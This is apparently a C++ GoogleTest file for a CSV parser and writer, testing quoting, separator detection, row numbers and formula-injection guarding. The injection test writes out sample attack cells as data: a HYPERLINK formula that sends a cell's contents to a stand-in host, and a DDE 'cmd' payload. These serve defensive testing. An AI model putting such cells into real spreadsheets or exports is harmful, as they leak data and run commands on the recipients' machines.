#include "core/csv.hpp"

#include <gtest/gtest.h>

namespace kwm {
namespace {

TEST(Csv, ReadsCommaFileWithQuotes) {
  const auto table = csv::parse("code,name\nA,\"Team, Noord\"\nB,\"Zeg \"\"hoi\"\"\"\n");
  EXPECT_EQ(table.separator, ',');
  ASSERT_EQ(table.records.size(), 2u);
  EXPECT_EQ(table.records[0].fields[1], "Team, Noord");
  EXPECT_EQ(table.records[1].fields[1], "Zeg \"hoi\"");
  EXPECT_EQ(table.records[0].row, 2);
  EXPECT_EQ(table.records[1].row, 3);
}

TEST(Csv, DetectsSemicolonsAndBomAndCrLf) {
  const auto table = csv::parse("\xEF\xBB\xBF" "code;fte\r\nA;0,8\r\n\r\nB;1\r\n");
  EXPECT_EQ(table.separator, ';');
  EXPECT_TRUE(table.decimal_comma);
  EXPECT_EQ(table.header[0], "code");
  ASSERT_EQ(table.records.size(), 2u);
  EXPECT_EQ(table.records[0].fields[1], "0,8");
  EXPECT_EQ(table.records[1].row, 4);  // the blank line still counts as a spreadsheet row
}

TEST(Csv, QuotedNewlineKeepsRowNumbersTrue) {
  const auto table = csv::parse("a,b\n\"x\ny\",1\nz,2\n");
  ASSERT_EQ(table.records.size(), 2u);
  EXPECT_EQ(table.records[0].fields[0], "x\ny");
  EXPECT_EQ(table.records[1].row, 4);
}

TEST(Csv, UnterminatedQuoteIsAnErrorWithItsRow) {
  try {
    csv::parse("a,b\n1,2\n\"open,3\n");
    FAIL() << "expected a failure";
  } catch (const Failure& failure) {
    EXPECT_EQ(failure.error().code, "csv_malformed");
    ASSERT_EQ(failure.error().rows.size(), 1u);
    EXPECT_EQ(failure.error().rows[0].row, 3);
  }
}

TEST(Csv, EmptyFileIsAnError) { EXPECT_THROW(csv::parse("  \n"), Failure); }

TEST(Csv, FormatsLinesThatReadBack) {
  const std::string line = csv::format_line({"a", "b;c", "d\"e"}, ';');
  EXPECT_EQ(line, "a;\"b;c\";\"d\"\"e\"\r\n");
  const auto table = csv::parse("h1;h2;h3\r\n" + line);
  EXPECT_EQ(table.records[0].fields[2], "d\"e");
}

// OWASP's CSV injection: a cell that starts like a formula is written as text (apostrophe, quoted); numbers
// stay numbers; the import takes the apostrophe off again, so an export imports unchanged.
TEST(Csv, CellsThatStartLikeAFormulaAreWrittenAsText) {
  const std::vector<std::string> fields{"=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
                                        "+cmd|' /C calc'!A0", "-cmd", "@SUM(A1)", "\tx", "\rx", "-0.5", "+2", "-0,75", "Wijkteam = team", "'quoted"};
  const std::string line = csv::format_line(fields);
  EXPECT_EQ(line.rfind("\"'=HYPERLINK(", 0), 0u) << line;
  for (const std::string lead : {"\"'+cmd|' /C calc'!A0\"", "\"'-cmd\"", "\"'@SUM(A1)\"", "\"'\tx\"", "\"'\rx\""})
    EXPECT_NE(line.find(lead), std::string::npos) << lead << " in " << line;
  EXPECT_NE(line.find(",-0.5,+2,\"-0,75\","), std::string::npos) << line;
  const auto table = csv::parse("a,b,c,d,e,f,g,h,i,j,k\n" + line);
  ASSERT_EQ(table.records.size(), 1u);
  EXPECT_EQ(table.records[0].fields, fields);
}

// Found by fuzz/csv_fuzz.cpp: a text that itself starts with the guard lost its apostrophe on import, and
// spaces at the edge of a quoted cell were written unquoted and trimmed, so the export did not import unchanged.
TEST(Csv, TextsStartingWithTheGuardOrWithSpacesReadBackUnchanged) {
  const std::vector<std::string> fields{"'=1", "''+x", "'", "'-0.5", " Noord", "Zeg ", "\tx ", "'quoted"};
  for (const std::string& field : fields) EXPECT_EQ(csv::without_formula_guard(csv::with_formula_guard(field)), field);
  const std::string line = csv::format_line(fields);
  EXPECT_NE(line.find("\"''=1\",\"'''+x\",',"), std::string::npos) << line;
  const auto table = csv::parse("a,b,c,d,e,f,g,h\n" + line);
  ASSERT_EQ(table.records.size(), 1u);
  EXPECT_EQ(table.records[0].fields, fields);
  // An export made before the fix reads as it did: one apostrophe comes off a guarded formula.
  EXPECT_EQ(csv::parse("a\n'=1\n").records[0].fields[0], "=1");
}

}  // namespace
}  // namespace kwm
